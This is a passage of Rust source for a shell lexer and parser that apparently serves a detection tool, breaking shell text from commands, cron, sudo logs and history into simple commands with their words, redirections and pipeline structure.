//! A POSIX-sh / bash lexer and parser for detection.
//!
//! This reads attacker-controlled shell text (`sh -c` arguments, cron `CMD (...)`
//! lines, sudo `COMMAND=` lines, bash history) and reports every simple command
//! in it: words after quote removal, redirections, and whether the command runs
//! in the background or in a pipeline. It is not an interpreter: nothing is
//! expanded. `$VAR`, `${...}`, `$(...)`, `` `...` ``, `<(...)` and `$((...))` are
//! kept verbatim in the word they belong to, but the commands inside command
//! substitutions, process substitutions, subshells, groups and control-flow
//! bodies are parsed too and reported flattened, after the command whose word
//! contains them.
//!
//! The parser works on the UTF-8 bytes of the input. All shell syntax is ASCII
//! and ASCII bytes never occur inside a multi-byte UTF-8 sequence, so scanning
//! bytes splits the text exactly where scanning `char`s would; words are
//! converted back to `String` whole (lossily only when `$'\xHH'` produced
//! invalid UTF-8).
//!
//! Robustness limits: input beyond 1 MiB is ignored, constructs nested deeper
//! than 64 levels are kept as literal text, at most 4096 commands are returned,
//! and every loop is guaranteed to make progress, so any input terminates
//! without panicking, in time linear in its length (times the nesting limit at
//! worst, as each level keeps the verbatim text of the levels inside it).

use std::mem;

use crate::text::lossy_string;

/// Deepest nesting level whose commands are parsed; deeper text stays literal.
const MAX_DEPTH: u32 = 64;
/// Maximum number of commands returned by [`parse`].
const MAX_COMMANDS: usize = 4096;
/// Maximum number of input bytes looked at.
const MAX_INPUT: usize = 1 << 20;
/// Maximum number of function definitions [`parse_script`] lists.
const MAX_FUNCTIONS: usize = 256;
/// Byte budget per parse for redirections copied from compound commands
/// (`{ ...; } >x`) onto the commands inside them.
const INHERIT_BUDGET: usize = 1 << 16;

/// One simple command found in a shell string.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SimpleCommand {
    /// Leading `NAME=value` assignments (e.g. `X=1 nohup ./a`), unquoted.
    pub assignments: Vec<String>,
    /// The command words after quote removal, first is the program (may be empty if the command was only assignments/redirections).
    pub words: Vec<String>,
    /// Redirections in order. Redirections written after an enclosing compound
    /// command (`( ... ) >x`, `{ ...; } 2>&1`, `done <f`) apply to the commands
    /// inside it and come first.
    pub redirects: Vec<Redirect>,
    /// True when this command's and-or list / pipeline was terminated by `&` (not `&&`), i.e. it runs in the background. A `&` at the end of a subshell/group/`$(..)` applies to the commands inside it too.
    pub background: bool,
    /// True when the command is part of a pipeline with more than one command.
    pub in_pipeline: bool,
    /// Nesting depth: 0 at top level, +1 inside `$(...)`, backticks, `( )`, `{ }`, control-flow bodies.
    pub depth: u32,
    /// The pipeline this command is a stage of: the stages of one pipeline share
    /// it (in [`parse`]'s order, which is stage order at one depth), and no other
    /// command in the same parse has it. A lone command is a pipeline of one.
    pub pipeline: u32,
    /// This command's place in its pipeline (0 for the first stage). A compound
    /// command (`( … )`, `{ …; }`, a loop …) is a stage too: its own commands say
    /// so in [`SimpleCommand::group_stage`].
    pub stage: u32,
    /// For a command written directly in a compound command that is a stage of a
    /// pipeline (`(echo a; echo b) | sh`): that pipeline's id and the stage's place,
    /// since what the compound command's commands write goes down that pipe.
    pub group_stage: Option<(u32, u32)>,
}

/// One redirection of a [`SimpleCommand`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirect {
    /// Explicit fd number if written (`2>` -> Some(2)), else None.
    pub fd: Option<u32>,
    /// The operator as written: one of `>`, `>>`, `<`, `<>`, `>|`, `>&`, `<&`, `&>`, `&>>`, `<<`, `<<-`, `<<<`.
    pub op: String,
    /// The target word after quote removal (file name, fd number like `1`, `-`, heredoc delimiter).
    pub target: String,
}

/// Parse `src` into its simple commands, in source order (outer command before
/// the commands nested in its words).
///
/// Never panics, whatever the input; unbalanced quotes/parens are tolerated
/// (end of input closes them). Nesting deeper than 64 levels is treated as
/// literal text, at most 4096 commands are returned and only the first MiB of
/// input is parsed. Heredoc bodies are skipped, not parsed.
#[must_use]
pub fn parse(src: &str) -> Vec<SimpleCommand> {
    parse_script(src).commands
}

/// What [`parse_script`] finds: the commands, and the shell functions the text
/// defines.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Script {
    /// As [`parse`] returns them.
    pub commands: Vec<SimpleCommand>,
    /// Function definitions (`f() { …; }`, `function f { …; }`), in text order.
    pub functions: Vec<Function>,
}

/// One shell function definition.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Function {
    /// The name it is called by.
    pub name: String,
    /// Its body's commands: a range of [`Script::commands`] (empty for an empty
    /// body).
    pub body: std::ops::Range<usize>,
}

/// [`parse`], and where the text defines functions: a function's body runs where
/// it is called, with the call's arguments as its positional parameters.
#[must_use]
pub fn parse_script(src: &str) -> Script {
    let mut p = Parser::new(clamp(src).as_bytes(), false);
    p.parse_list(0, Ctx::TOP);
    p.out.truncate(MAX_COMMANDS);
    let n = p.out.len();
    for f in &mut p.functions {
        f.body = f.body.start.min(n)..f.body.end.min(n);
    }
    Script {
        commands: p.out,
        functions: p.functions,
    }
}

/// Split `src` into words like [`parse`] does for one simple command, but
/// without operators: only quote removal, whitespace separates words.
///
/// `"a b" c\ d 'e'` -> `["a b", "c d", "e"]`. `$(...)`, backticks and `${...}`
/// are kept whole (and not parsed), as in `parse`.
#[must_use]
pub fn split_words(src: &str) -> Vec<String> {
    let mut p = Parser::new(clamp(src).as_bytes(), true);
    let mut words = Vec::new();
    loop {
        while let Some(c) = p.peek() {
            if c.is_ascii_whitespace() {
                p.pos += 1;
            } else if c == b'\\' && p.peek_at(1) == Some(b'\n') {
                p.pos += 2;
            } else {
                break;
            }
        }
        if p.pos >= p.src.len() {
            return words;
        }
        words.push(lossy_string(p.read_word(0).0));
    }
}

/// Longest prefix of `src` of at most [`MAX_INPUT`] bytes ending on a char boundary.
fn clamp(src: &str) -> &str {
    let mut end = src.len().min(MAX_INPUT);
    while !src.is_char_boundary(end) {
        end -= 1;
    }
    &src[..end]
}

/// Bytes that end an unquoted word (in `parse` mode).
fn is_meta(c: u8) -> bool {
    matches!(
        c,
        b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'(' | b')' | b'<' | b'>'
    )
}

/// `NAME`, `NAME+`, `NAME[sub]` or `NAME[sub]+`: what may precede `=` in an assignment.
fn is_assign_name(name: &[u8]) -> bool {
    let name = name.strip_suffix(b"+").unwrap_or(name);
    let name = match name.iter().position(|&c| c == b'[') {
        Some(i) if name.ends_with(b"]") => &name[..i],
        Some(_) => return false,
        None => name,
    };
    matches!(name.first(), Some(c) if c.is_ascii_alphabetic() || *c == b'_')
        && name.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'_')
}

/// Reserved words recognised in command position.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Kw {
    If,
    Then,
    Elif,
    Else,
    Fi,
    Do,
    Done,
    While,
    Until,
    For,
    Select,
    In,
    Case,
    Esac,
    LBrace,
    RBrace,
    Bang,
    Time,
    Function,
    Coproc,
}

impl Kw {
    fn bit(self) -> u32 {
        1 << self as u32
    }

    /// Words that close (part of) a compound command; they never start a command.
    fn is_closer(self) -> bool {
        matches!(
            self,
            Kw::Then
                | Kw::Elif
                | Kw::Else
                | Kw::Fi
                | Kw::Do
                | Kw::Done
                | Kw::Esac
                | Kw::RBrace
                | Kw::In
        )
    }
}

/// What ends the command list being parsed.
#[derive(Clone, Copy)]
struct Ctx {
    /// Closing keywords (as [`Kw::bit`]s) expected by enclosing constructs.
    stops: u32,
    /// An enclosing `(`, `$(` or `<(` expects a `)`.
    paren: bool,
    /// Inside a `case` item: `;;`, `;&` and `;;&` end the list.
    case_body: bool,
}

impl Ctx {
    const TOP: Ctx = Ctx {
        stops: 0,
        paren: false,
        case_body: false,
    };
    const PAREN: Ctx = Ctx {
        stops: 0,
        paren: true,
        case_body: false,
    };

    fn with(self, stops: u32) -> Ctx {
        Ctx {
            stops: self.stops | stops,
            ..self
        }
    }
}

struct Parser<'a> {
    src: &'a [u8],
    pos: usize,
    out: Vec<SimpleCommand>,
    /// Heredocs (delimiter, strip leading tabs) whose bodies start after the next newline.
    heredocs: Vec<(Vec<u8>, bool)>,
    /// `split_words` mode: only whitespace separates words, nothing is parsed.
    split: bool,
    inherit_budget: usize,
    /// The id the next pipeline gets.
    next_pipeline: u32,
    /// A function name just defined (`f()`, `function f`): the next and-or list
    /// parsed is its body.
    pending_function: Option<String>,
    functions: Vec<Function>,
}

impl<'a> Parser<'a> {
    fn new(src: &'a [u8], split: bool) -> Self {
        Parser {
            src,
            pos: 0,
            out: Vec::new(),
            heredocs: Vec::new(),
            split,
            inherit_budget: INHERIT_BUDGET,
            next_pipeline: 0,
            pending_function: None,
            functions: Vec::new(),
        }
    }

    // ----- low-level cursor helpers -----

    fn peek(&self) -> Option<u8> {
        self.src.get(self.pos).copied()
    }

    fn peek_at(&self, off: usize) -> Option<u8> {
        self.src.get(self.pos + off).copied()
    }

    fn rest(&self) -> &'a [u8] {
        self.src.get(self.pos..).unwrap_or(&[])
    }

    fn starts_with(&self, s: &[u8]) -> bool {
        self.rest().starts_with(s)
    }

    /// Is `s` the whole next word (followed by a metacharacter or the end)?
    fn at_exact_word(&self, s: &[u8]) -> bool {
        self.starts_with(s) && self.src.get(self.pos + s.len()).is_none_or(|&c| is_meta(c))
    }

    fn advance(&mut self, n: usize) {
        self.pos = (self.pos + n).min(self.src.len());
    }

    /// Skip one character (progress guarantee for stray input).
    fn bump(&mut self) {
        self.advance(1);
        while self.peek().is_some_and(|c| (c & 0xC0) == 0x80) {
            self.pos += 1;
        }
    }

    /// Move just past the next `b`, or to the end.
    fn skip_past(&mut self, b: u8) {
        self.pos = match self.rest().iter().position(|&c| c == b) {
            Some(i) => self.pos + i + 1,
            None => self.src.len(),
        };
    }

    fn full(&self) -> bool {
        self.out.len() >= MAX_COMMANDS
    }

    /// Would `read_word` consume something here?
    fn at_word(&self) -> bool {
        match self.peek() {
            None => false,
            Some(b'<' | b'>') => self.peek_at(1) == Some(b'('),
            Some(c) => !is_meta(c),
        }
    }

    fn peek_keyword(&self) -> Option<(Kw, usize)> {
        let rest = self.rest();
        // No keyword is longer than 8 bytes.
        let n = rest
            .iter()
            .take(9)
            .position(|&c| is_meta(c))
            .unwrap_or(rest.len().min(9));
        let kw = match &rest[..n] {
            b"if" => Kw::If,
            b"then" => Kw::Then,
            b"elif" => Kw::Elif,
            b"else" => Kw::Else,
            b"fi" => Kw::Fi,
            b"do" => Kw::Do,
            b"done" => Kw::Done,
            b"while" => Kw::While,
            b"until" => Kw::Until,
            b"for" => Kw::For,
            b"select" => Kw::Select,
            b"in" => Kw::In,
            b"case" => Kw::Case,
            b"esac" => Kw::Esac,
            b"{" => Kw::LBrace,
            b"}" => Kw::RBrace,
            b"!" => Kw::Bang,
            b"time" => Kw::Time,
            b"function" => Kw::Function,
            b"coproc" => Kw::Coproc,
            _ => return None,
        };
        Some((kw, n))
    }

    fn eat_keyword(&mut self, want: Kw) -> bool {
        match self.peek_keyword() {
            Some((kw, n)) if kw == want => {
                self.pos += n;
                true
            }
            _ => false,
        }
    }

    /// Spaces, tabs and backslash-newline continuations.
    fn skip_blanks(&mut self) {
        loop {
            match self.peek() {
                Some(b' ' | b'\t') => self.pos += 1,
                Some(b'\\') if self.peek_at(1) == Some(b'\n') => self.pos += 2,
                _ => return,
            }
        }
    }

    fn skip_comment(&mut self) {
        self.pos = match self.rest().iter().position(|&c| c == b'\n') {
            Some(i) => self.pos + i,
            None => self.src.len(),
        };
    }

    /// Consume a newline token, then the bodies of pending heredocs.
    fn newline(&mut self) {
        self.advance(1);
        for (delim, strip_tabs) in mem::take(&mut self.heredocs) {
            while self.pos < self.src.len() {
                let rest = self.rest();
                let eol = rest.iter().position(|&c| c == b'\n');
                let mut line = &rest[..eol.unwrap_or(rest.len())];
                self.advance(eol.map_or(rest.len(), |i| i + 1));
                if strip_tabs {
                    while let [b'\t', tail @ ..] = line {
                        line = tail;
                    }
                }
                // CRLF text: accept `EOF\r` as the delimiter line too.
                if line == delim || line.strip_suffix(b"\r") == Some(&delim[..]) {
                    break;
                }
            }
        }
    }

    /// Blanks, comments and newlines.
    fn skip_linebreak(&mut self) {
        loop {
            self.skip_blanks();
            match self.peek() {
                Some(b'\n') => self.newline(),
                Some(b'#') => self.skip_comment(),
                _ => return,
            }
        }
    }

    /// Linebreaks plus stray `;`, `&` and `|` before a command.
    fn skip_separators(&mut self, ctx: Ctx) {
        loop {
            self.skip_linebreak();
            match self.peek() {
                Some(b';') => {
                    if ctx.case_body && matches!(self.peek_at(1), Some(b';' | b'&')) {
                        return;
                    }
                    self.pos += 1;
                }
                Some(b'&') if self.peek_at(1) != Some(b'>') => self.pos += 1,
                Some(b'|') => self.pos += 1,
                _ => return,
            }
        }
    }

    fn mark_background(&mut self, start: usize) {
        for cmd in self.out.iter_mut().skip(start) {
            cmd.background = true;
        }
    }

    fn mark_pipeline(&mut self, start: usize) {
        for cmd in self.out.iter_mut().skip(start) {
            cmd.in_pipeline = true;
        }
    }

    // ----- grammar -----

    /// A list of and-or lists separated by `;`, `&` or newlines, up to whatever `ctx` says ends it.
    fn parse_list(&mut self, depth: u32, ctx: Ctx) {
        loop {
            if self.full() {
                return;
            }
            self.skip_separators(ctx);
            let Some(c) = self.peek() else { return };
            match c {
                b')' if ctx.paren => return,
                b')' => {
                    self.pos += 1;
                    continue;
                }
                // Only `;;`, `;&` in a case body get here.
                b';' => return,
                _ => {}
            }
            if let Some((kw, n)) = self.peek_keyword() {
                if kw.is_closer() {
                    if ctx.stops & kw.bit() != 0 {
                        return;
                    }
                    // A stray closing keyword is not a command word.
                    self.pos += n;
                    continue;
                }
            }
            let start = self.out.len();
            let before = self.pos;
            let defining = self.pending_function.take();
            self.parse_and_or(depth, ctx);
            if let Some(name) = defining {
                if self.functions.len() < MAX_FUNCTIONS {
                    self.functions.push(Function {
                        name,
                        body: start..self.out.len(),
                    });
                }
            }
            self.skip_blanks();
            match self.peek() {
                Some(b'&') => {
                    self.pos += 1;
                    // zsh's `&!` and `&|`: background and disowned.
                    if matches!(self.peek(), Some(b'!' | b'|')) {
                        self.pos += 1;
                    }
                    self.mark_background(start);
                }
                // `;;` in a case body is left for the case parser.
                Some(b';') if !(ctx.case_body && matches!(self.peek_at(1), Some(b';' | b'&'))) => {
                    self.pos += 1;
                }
                Some(b'\n') => self.newline(),
                _ => {}
            }
            if self.pos == before {
                self.bump();
            }
        }
    }

    fn parse_and_or(&mut self, depth: u32, ctx: Ctx) {
        loop {
            self.parse_pipeline(depth, ctx);
            self.skip_blanks();
            if self.starts_with(b"&&") || self.starts_with(b"||") {
                self.pos += 2;
                self.skip_linebreak();
            } else {
                return;
            }
        }
    }

    fn parse_pipeline(&mut self, depth: u32, ctx: Ctx) {
        let start = self.out.len();
        let mut len = 1;
        // The compound stages: where their commands are in `out`, and their place.
        let mut compound_stages = Vec::new();
        loop {
            let stage_start = self.out.len();
            let compound = self.parse_command(depth, ctx);
            for cmd in self.out.iter_mut().skip(stage_start) {
                if cmd.depth == depth {
                    cmd.stage = len - 1;
                }
            }
            if compound {
                compound_stages.push((stage_start, self.out.len(), len - 1));
            }
            self.skip_blanks();
            if self.full() {
                break;
            }
            match (self.peek(), self.peek_at(1)) {
                (Some(b'|'), Some(b'|')) => break,
                (Some(b'|'), Some(b'&')) => self.pos += 2,
                (Some(b'|'), _) => self.pos += 1,
                _ => break,
            }
            len += 1;
            self.skip_linebreak();
        }
        if len > 1 {
            self.mark_pipeline(start);
        }
        // The stages are the commands of this depth; deeper ones (in a `$(…)` of a
        // stage) got their own pipelines' ids first.
        let id = self.next_pipeline;
        self.next_pipeline = self.next_pipeline.wrapping_add(1);
        for cmd in self.out.iter_mut().skip(start) {
            if cmd.depth == depth {
                cmd.pipeline = id;
            }
        }
        for (from, to, stage) in compound_stages {
            for cmd in &mut self.out[from..to] {
                if cmd.depth == depth + 1 && cmd.group_stage.is_none() {
                    cmd.group_stage = Some((id, stage));
                }
            }
        }
    }

    /// Parses one command; returns whether it was a compound command (a group, a
    /// subshell, a loop, `if` or `case`) rather than a simple one.
    fn parse_command(&mut self, depth: u32, ctx: Ctx) -> bool {
        let start = self.out.len();
        let mut coproc = false;
        loop {
            self.skip_blanks();
            match self.peek_keyword() {
                Some((Kw::Bang, n)) => self.pos += n,
                Some((Kw::Time, n)) => {
                    self.pos += n;
                    self.skip_blanks();
                    if self.at_exact_word(b"-p") {
                        self.pos += 2;
                    }
                }
                Some((Kw::Coproc, n)) => {
                    self.pos += n;
                    coproc = true;
                    self.skip_blanks();
                    self.skip_coproc_name();
                }
                _ => break,
            }
        }
        // Compound commands recurse; at the depth limit their keywords are plain words.
        let open = depth < MAX_DEPTH;
        let compound = match self.peek_keyword() {
            Some((kw, _)) if kw.is_closer() => return false,
            Some((Kw::LBrace, n)) if open => {
                self.pos += n;
                self.parse_list(depth + 1, ctx.with(Kw::RBrace.bit()));
                self.eat_keyword(Kw::RBrace);
                self.trailing_redirects(depth, start);
                true
            }
            Some((Kw::If, n)) if open => {
                self.pos += n;
                self.parse_if(depth, ctx);
                self.trailing_redirects(depth, start);
                true
            }
            Some((Kw::While | Kw::Until, n)) if open => {
                self.pos += n;
                let inner = ctx.with(Kw::Do.bit() | Kw::Done.bit());
                self.parse_list(depth + 1, inner);
                if self.eat_keyword(Kw::Do) {
                    self.parse_list(depth + 1, inner);
                }
                self.eat_keyword(Kw::Done);
                self.trailing_redirects(depth, start);
                true
            }
            Some((Kw::For | Kw::Select, n)) if open => {
                self.pos += n;
                self.parse_for(depth, ctx);
                self.trailing_redirects(depth, start);
                true
            }
            Some((Kw::Case, n)) if open => {
                self.pos += n;
                self.parse_case(depth, ctx);
                self.trailing_redirects(depth, start);
                true
            }
            Some((Kw::Function, n)) => {
                // `function f`, `function f()`: the body is parsed as the next command.
                self.pos += n;
                self.skip_blanks();
                if self.at_word() {
                    let (name, _) = self.read_word(depth);
                    self.pending_function = Some(lossy_string(name));
                }
                self.skip_blanks();
                self.eat_fn_parens();
                false
            }
            _ if self.peek() == Some(b'(') => {
                self.pos += 1;
                self.paren_list(depth);
                self.trailing_redirects(depth, start);
                true
            }
            _ if self.at_exact_word(b"[[") => {
                self.parse_cond(depth, ctx);
                false
            }
            _ => {
                self.parse_simple(depth);
                false
            }
        };
        if coproc {
            self.mark_background(start);
        }
        compound
    }

    /// After `coproc`: skip a `NAME` that is followed by a compound command.
    fn skip_coproc_name(&mut self) {
        let rest = self.rest();
        let n = rest
            .iter()
            .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
            .count();
        let next = rest[n..].iter().find(|&&c| c != b' ' && c != b'\t');
        if n > 0 && matches!(next, Some(b'{' | b'(')) {
            self.pos += n;
        }
    }

    /// `f ( )` after a function name: consume it and report whether it was there.
    fn eat_fn_parens(&mut self) -> bool {
        if self.peek() != Some(b'(') {
            return false;
        }
        let rest = self.rest();
        let blanks = rest[1..]
            .iter()
            .take_while(|&&c| c == b' ' || c == b'\t')
            .count();
        if rest.get(1 + blanks) == Some(&b')') {
            self.pos += blanks + 2;
            true
        } else {
            false
        }
    }

    /// `if` already consumed.
    fn parse_if(&mut self, depth: u32, ctx: Ctx) {
        let inner = ctx.with(Kw::Then.bit() | Kw::Elif.bit() | Kw::Else.bit() | Kw::Fi.bit());
        self.parse_list(depth + 1, inner);
        loop {
            match self.peek_keyword() {
                Some((Kw::Then | Kw::Elif | Kw::Else, n)) => {
                    self.pos += n;
                    self.parse_list(depth + 1, inner);
                }
                Some((Kw::Fi, n)) => {
                    self.pos += n;
                    return;
                }
                _ => return,
            }
        }
    }

    /// `for`/`select` already consumed.
    fn parse_for(&mut self, depth: u32, ctx: Ctx) {
        self.skip_blanks();
        if self.starts_with(b"((") {
            self.pos += 1;
            self.skip_balanced();
        } else {
            if self.at_word() {
                self.read_word(depth);
            }
            self.skip_linebreak();
            if self.eat_keyword(Kw::In) {
                loop {
                    self.skip_blanks();
                    if self.peek() == Some(b'#') {
                        self.skip_comment();
                    }
                    if !self.at_word() {
                        break;
                    }
                    self.read_word(depth);
                }
            }
        }
        self.skip_blanks();
        if self.peek() == Some(b';') {
            self.pos += 1;
        }
        self.skip_linebreak();
        if self.eat_keyword(Kw::Do) {
            self.parse_list(depth + 1, ctx.with(Kw::Done.bit()));
            self.eat_keyword(Kw::Done);
        }
    }

    /// `case` already consumed.
    fn parse_case(&mut self, depth: u32, ctx: Ctx) {
        self.skip_blanks();
        if self.at_word() {
            self.read_word(depth);
        }
        self.skip_linebreak();
        self.eat_keyword(Kw::In);
        let body = Ctx {
            stops: ctx.stops | Kw::Esac.bit(),
            case_body: true,
            paren: ctx.paren,
        };
        loop {
            if self.full() {
                return;
            }
            self.skip_linebreak();
            let before = self.pos;
            match self.peek_keyword() {
                Some((Kw::Esac, n)) => {
                    self.pos += n;
                    return;
                }
                Some((kw, _)) if ctx.stops & kw.bit() != 0 => return,
                _ => {}
            }
            match self.peek() {
                None => return,
                Some(b')') if ctx.paren => return,
                Some(b'(') => self.pos += 1,
                _ => {}
            }
            // Pattern list `a|b)`.
            loop {
                self.skip_blanks();
                match self.peek() {
                    Some(b'|') => self.pos += 1,
                    Some(b')') => {
                        self.pos += 1;
                        break;
                    }
                    _ if self.at_word() => {
                        self.read_word(depth);
                    }
                    _ => break,
                }
            }
            self.parse_list(depth + 1, body);
            if self.starts_with(b";;&") {
                self.pos += 3;
            } else if self.starts_with(b";;") || self.starts_with(b";&") {
                self.pos += 2;
            }
            if self.pos == before {
                self.bump();
            }
        }
    }

    /// `[[ ... ]]`: operators inside are words, not list operators or redirections.
    fn parse_cond(&mut self, depth: u32, ctx: Ctx) {
        let mark = self.out.len();
        self.pos += 2;
        let mut words = vec!["[[".to_string()];
        let mut parens = 0u32;
        loop {
            self.skip_blanks();
            let Some(c) = self.peek() else { break };
            if self.at_exact_word(b"]]") {
                self.pos += 2;
                words.push("]]".to_string());
                break;
            }
            let op = match (c, self.peek_at(1)) {
                (b'\n', _) => {
                    self.newline();
                    continue;
                }
                (b'&', Some(b'&')) => "&&",
                (b'|', Some(b'|')) => "||",
                (b'(', _) => {
                    parens += 1;
                    "("
                }
                (b')', _) if parens > 0 || !ctx.paren => {
                    parens = parens.saturating_sub(1);
                    ")"
                }
                (b'<', next) if next != Some(b'(') => "<",
                (b'>', next) if next != Some(b'(') => ">",
                (b';' | b'&' | b'|' | b')', _) => break,
                _ => {
                    words.push(lossy_string(self.read_word(depth).0));
                    continue;
                }
            };
            self.pos += op.len();
            words.push(op.to_string());
        }
        let mut redirects = Vec::new();
        loop {
            self.skip_blanks();
            match self.try_redirect(depth) {
                Some(r) => redirects.push(r),
                None => break,
            }
        }
        self.out.insert(
            mark,
            SimpleCommand {
                assignments: Vec::new(),
                words,
                redirects,
                background: false,
                in_pipeline: false,
                depth,
                pipeline: 0,
                stage: 0,
                group_stage: None,
            },
        );
    }

    fn parse_simple(&mut self, depth: u32) {
        // Commands nested in this one's words land after `mark`; this one is inserted before them.
        let mark = self.out.len();
        let mut assignments = Vec::new();
        let mut words = Vec::new();
        let mut redirects = Vec::new();
        loop {
            self.skip_blanks();
            match self.peek() {
                None | Some(b'\n' | b';' | b'|' | b')') => break,
                Some(b'&') if self.peek_at(1) != Some(b'>') => break,
                Some(b'(') => {
                    if words.len() == 1
                        && assignments.is_empty()
                        && redirects.is_empty()
                        && self.eat_fn_parens()
                    {
                        // `name() body`: a definition, not a command; the body follows.
                        self.pending_function = words.pop();
                        return;
                    }
                    break;
                }
                Some(b'#') => {
                    self.skip_comment();
                    break;
                }
                _ => {}
            }
            if let Some(r) = self.try_redirect(depth) {
                redirects.push(r);
                continue;
            }
            let (word, assign) = self.read_word(depth);
            if assign && words.is_empty() {
                assignments.push(lossy_string(word));
            } else {
                words.push(lossy_string(word));
            }
        }
        if words.is_empty() && assignments.is_empty() && redirects.is_empty() {
            return;
        }
        self.out.insert(
            mark,
            SimpleCommand {
                assignments,
                words,
                redirects,
                background: false,
                in_pipeline: false,
                depth,
                pipeline: 0,
                stage: 0,
                group_stage: None,
            },
        );
    }

    /// Redirections after a compound command; copied to the commands inside it.
    fn trailing_redirects(&mut self, depth: u32, start: usize) {
        let end = self.out.len();
        let mut reds = Vec::new();
        loop {
            self.skip_blanks();
            match self.try_redirect(depth) {
                Some(r) => reds.push(r),
                None => break,
            }
        }
        if reds.is_empty() {
            return;
        }
        let cost: usize = reds.iter().map(|r| r.target.len() + 32).sum();
        if let Some(cmds) = self.out.get_mut(start..end) {
            for cmd in cmds {
                if self.inherit_budget < cost {
                    break;
                }
                self.inherit_budget -= cost;
                cmd.redirects.splice(0..0, reds.iter().cloned());
            }
        }
    }

    /// A redirection at the cursor (optional fd digits, operator, target word), if any.
    fn try_redirect(&mut self, depth: u32) -> Option<Redirect> {
        let rest = self.rest();
        let digits = rest.iter().take_while(|c| c.is_ascii_digit()).count();
        let op = match &rest[digits..] {
            [b'<' | b'>', b'(', ..] => return None,
            [b'<', b'<', b'<', ..] => "<<<",
            [b'<', b'<', b'-', ..] => "<<-",
            [b'<', b'<', ..] => "<<",
            [b'<', b'>', ..] => "<>",
            [b'<', b'&', ..] => "<&",
            [b'<', ..] => "<",
            [b'>', b'>', ..] => ">>",
            [b'>', b'|', ..] => ">|",
            [b'>', b'&', ..] => ">&",
            [b'>', ..] => ">",
            [b'&', b'>', b'>', ..] if digits == 0 => "&>>",
            [b'&', b'>', ..] if digits == 0 => "&>",
            _ => return None,
        };
        let fd = if digits == 0 {
            None
        } else {
            rest[..digits].iter().try_fold(0u32, |acc, &d| {
                acc.checked_mul(10)?.checked_add(u32::from(d - b'0'))
            })
        };
        self.pos += digits + op.len();
        self.skip_blanks();
        let target = if self.at_word() {
            lossy_string(self.read_word(depth).0)
        } else {
            String::new()
        };
        if op == "<<" || op == "<<-" {
            self.heredocs
                .push((target.as_bytes().to_vec(), op == "<<-"));
        }
        Some(Redirect {
            fd,
            op: op.to_string(),
            target,
        })
    }

    // ----- words -----

    /// Read one word with quote removal. Returns the word and whether it is a
    /// `NAME=value` assignment.
    fn read_word(&mut self, depth: u32) -> (Vec<u8>, bool) {
        let mut buf = Vec::new();
        // Only unquoted literal bytes so far (an assignment name must be).
        let mut plain = true;
        let mut eq_seen = false;
        let mut assign = false;
        while let Some(c) = self.peek() {
            let start = self.pos;
            match c {
                _ if self.split && c.is_ascii_whitespace() => break,
                b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'(' | b')' if !self.split => break,
                b'<' | b'>' if !self.split => {
                    if self.peek_at(1) != Some(b'(') {
                        break;
                    }
                    // Process substitution `<(...)` / `>(...)`.
                    plain = false;
                    self.pos += 2;
                    self.paren_list(depth);
                    buf.extend_from_slice(&self.src[start..self.pos]);
                }
                b'\'' => {
                    plain = false;
                    self.pos += 1;
                    let end = self.rest().iter().position(|&q| q == b'\'');
                    let body = &self.rest()[..end.unwrap_or(self.rest().len())];
                    buf.extend_from_slice(body);
                    self.advance(body.len() + 1);
                }
                b'"' => {
                    plain = false;
                    self.pos += 1;
                    self.read_dquote(depth, &mut buf);
                }
                b'\\' => {
                    plain = false;
                    match self.peek_at(1) {
                        Some(b'\n') => {}
                        Some(e) => buf.push(e),
                        None => buf.push(b'\\'),
                    }
                    self.advance(2);
                }
                b'$' => {
                    plain = false;
                    self.read_dollar(depth, &mut buf, false);
                }
                b'`' => {
                    plain = false;
                    self.backtick(depth, false);
                    buf.extend_from_slice(&self.src[start..self.pos]);
                }
                b'=' if !eq_seen => {
                    eq_seen = true;
                    assign = plain && is_assign_name(&buf);
                    buf.push(b'=');
                    self.pos += 1;
                    if assign && !self.split && self.peek() == Some(b'(') {
                        // Array assignment `a=(x y)`: keep literally.
                        self.pos += 1;
                        self.skip_balanced();
                        buf.extend_from_slice(&self.src[start + 1..self.pos]);
                    }
                }
                _ => {
                    buf.push(c);
                    self.pos += 1;
                }
            }
        }
        (buf, assign)
    }

    /// Inside `"..."` (opening quote consumed): append the unquoted content to `buf`.
    fn read_dquote(&mut self, depth: u32, buf: &mut Vec<u8>) {
        while let Some(c) = self.peek() {
            let start = self.pos;
            match c {
                b'"' => {
                    self.pos += 1;
                    return;
                }
                b'\\' => match self.peek_at(1) {
                    Some(b'\n') => self.pos += 2,
                    Some(e @ (b'$' | b'`' | b'"' | b'\\')) => {
                        buf.push(e);
                        self.pos += 2;
                    }
                    _ => {
                        buf.push(b'\\');
                        self.pos += 1;
                    }
                },
                b'$' => self.read_dollar(depth, buf, true),
                b'`' => {
                    self.backtick(depth, true);
                    buf.extend_from_slice(&self.src[start..self.pos]);
                }
                _ => {
                    buf.push(c);
                    self.pos += 1;
                }
            }
        }
    }

    /// At a `$`: ANSI-C and locale quoting are decoded, expansions kept verbatim
    /// (command substitutions parsed).
    fn read_dollar(&mut self, depth: u32, buf: &mut Vec<u8>, in_dquote: bool) {
        let start = self.pos;
        match self.peek_at(1) {
            Some(b'\'') if !in_dquote => {
                self.pos += 2;
                self.read_ansi_c(buf);
            }
            Some(b'"') if !in_dquote => {
                self.pos += 2;
                self.read_dquote(depth, buf);
            }
            Some(b'(') => {
                self.pos += 2;
                self.dollar_paren(depth);
                buf.extend_from_slice(&self.src[start..self.pos]);
            }
            Some(b'{') => {
                self.pos += 2;
                self.param(depth, in_dquote);
                buf.extend_from_slice(&self.src[start..self.pos]);
            }
            _ => {
                buf.push(b'$');
                self.pos += 1;
            }
        }
    }

    /// After `$(`: arithmetic `$((...))` is skipped, a command substitution parsed.
    fn dollar_paren(&mut self, depth: u32) {
        if self.peek() == Some(b'(') {
            self.skip_balanced();
        } else {
            self.paren_list(depth);
        }
    }

    /// After `(`, `$(` or `<(`: parse the list up to the matching `)` one level
    /// deeper, or skip it literally at the depth limit / in split mode.
    fn paren_list(&mut self, depth: u32) {
        if self.split || depth >= MAX_DEPTH {
            self.skip_balanced();
            return;
